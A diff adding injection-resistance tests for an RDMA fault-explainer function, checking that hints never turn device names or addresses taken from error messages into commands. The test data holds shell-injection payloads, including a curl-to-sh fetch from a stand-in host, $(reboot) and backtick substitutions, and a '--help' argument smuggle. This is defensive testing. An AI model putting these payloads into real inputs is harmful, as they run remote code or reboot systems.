@@ -33,6 +33,20 @@ it.each([
   expect(explained?.hint).toMatch(hint)
 })
 
+it.each([
+  ['RDMA_PORT_DOWN', '(eth0;curl${IFS}x.example/a|sh; is down)'],
+  ['RDMA_PORT_DOWN', '($(reboot) has no carrier)'],
+  ['RDMA_PORT_DOWN', '(--help is down)'],
+  ['RDMA_PORT_DOWN', '(a-name-of-more-than-15 is down)'],
+  ['RDMA_NO_GID', 'no RoCE v2 GID for source address 10.0.0.5 on eth1|sh; there is x'],
+  ['RDMA_NO_GID', 'no RoCE v2 GID for source address `reboot` on eth1; there is x'],
+  ['RDMA_NO_GID', 'no RoCE v2 GID for source address fe80::1%$(reboot) on $(reboot); there is x'],
+  ['RDMA_NO_GID', 'no RoCE v2 GID for source address 10.0.0.5.6 on eth1; there is x'],
+])('makes no command of what is no device and no address: %s, %s', (code, message) => {
+  const hint = explainRdmaFault({ code, op: '', errno: 0, message })?.hint
+  expect(hint).toMatch(/^(rdma link show|choose one of these with --device and --gid-index)$/)
+})
+
 it('knows only its own faults', () => {
   expect(explainRdmaFault({ code: 'SOCKET', op: '', errno: 1, message: '' })).toBeNull()
 })
